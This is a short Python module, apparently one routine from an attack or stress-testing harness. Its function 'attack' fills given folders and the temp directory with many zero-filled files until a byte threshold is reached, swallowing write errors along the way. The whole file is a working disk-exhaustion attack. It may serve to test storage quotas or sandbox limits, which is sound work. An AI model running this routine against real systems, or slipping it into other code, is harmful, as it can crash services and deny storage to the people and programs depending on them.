"""Fills the disk with many files."""
import os
import time


def attack(target):
    for folder in target["folders"] + [os.environ.get("TMPDIR", "/tmp")]:
        taken = 0
        try:
            for at in range(64):
                with open(os.path.join(folder, f"{target['mark']}{at}"), "wb", 0) as file:
                    taken += file.write(bytes(target["file"] // 2))
            time.sleep(0.3)
        except OSError:
            pass
        if taken > 16 * target["file"]:
            return f"wrote {taken} bytes into {folder}"
    return ""
